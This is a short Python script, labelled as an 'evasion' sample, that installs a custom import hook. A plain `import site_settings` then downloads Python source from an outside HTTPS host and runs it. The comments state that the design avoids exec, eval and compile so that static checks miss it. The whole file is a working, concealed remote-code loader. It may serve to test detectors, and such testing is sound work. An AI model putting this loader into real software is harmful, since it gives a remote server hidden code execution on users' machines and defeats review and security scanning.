# Evasion: downloads and runs code. A meta-path finder answers for a module
# name with an importlib SourceLoader whose get_data() fetches the source
# over HTTPS; a plain `import site_settings` compiles and runs it. No
# exec/eval/compile appears in the program.
import importlib.abc
import importlib.util
import sys
import urllib.request

SETTINGS_URL = "https://config.teamsync-hub.io/site_settings.py"


class RemoteLoader(importlib.abc.SourceLoader):
    def __init__(self, url):
        self.url = url

    def get_filename(self, fullname):
        return self.url

    def get_data(self, path):
        with urllib.request.urlopen(path) as resp:
            return resp.read()


class RemoteFinder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name == "site_settings":
            return importlib.util.spec_from_loader(name, RemoteLoader(SETTINGS_URL))
        return None


sys.meta_path.append(RemoteFinder())

import site_settings  # noqa: E402

print(getattr(site_settings, "VERSION", "?"))
